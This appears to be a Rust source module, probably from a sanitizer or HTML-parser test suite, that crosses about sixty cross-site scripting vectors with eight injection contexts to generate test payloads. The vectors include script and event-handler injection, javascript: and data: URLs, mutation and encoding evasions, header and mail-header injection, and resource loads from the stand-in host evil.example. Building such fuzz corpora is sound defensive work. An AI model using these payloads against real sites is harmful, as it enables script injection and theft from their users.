//! Vectors times contexts: small pieces that act in some program, and the ways of getting them there.

/// One text to put everywhere.
pub(super) struct Payload {
    pub(super) number: usize,
    pub(super) text: String,
}

/// What acts, if it gets through.
const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x></sCrIpT>",
    "<script/x>alert(1)</script",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<img srcset='javascript:alert(1) 2x, //evil.example/x 1x'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<p title='<!--'><img src=x onerror=alert(1)>-->",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='&#106;&#x61;vascript&colon;alert(1)'>x</a>",
    "<a href='java\tscript\n:alert(1)'>x</a>",
    "<a href='\u{1}javascript:alert(1)'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=data:text/html,x>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='background:url(//evil.example/x)'>x</div>",
    "<div style='-moz-binding:url(//evil.example/x)'>x</div>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<table background=javascript:alert(1)><td>x</table>",
    "<isindex action=javascript:alert(1)>",
    "<xml id=x><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script></xml>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u{bc}script\u{be}alert(1)\u{bc}/script\u{be}",
    "<\0script>alert(1)</scr\0ipt>",
    "\u{202e}>tpircs<",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/%0d%0aSet-Cookie:x",
    "https://evil.example/\"onmouseover=alert(1)//",
    "x\r\nBcc: all@evil.example\r\n\r\n<script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}${alert(1)}",
];

/// How it gets there; `@` is the vector.
const CONTEXTS: &[&str] = &[
    "@",
    "\">@",
    "'>@",
    "\" onmouseover=alert(1) x=\"@",
    "</title></style></textarea></td></table>@",
    "<!-- @",
    "--> ]]> @",
    "<b title=\"@\">",
];

/// Every vector in every context, and each once more with its markup escaped.
pub(super) fn all() -> Vec<Payload> {
    let plain = VECTORS.iter().flat_map(|vector| {
        CONTEXTS
            .iter()
            .map(move |context| context.replace('@', vector))
    });
    let twice = VECTORS
        .iter()
        .map(|vector| vector.replace('&', "&amp;").replace('<', "&lt;"));
    plain
        .chain(twice)
        .enumerate()
        .map(|(number, text)| Payload { number, text })
        .collect()
}
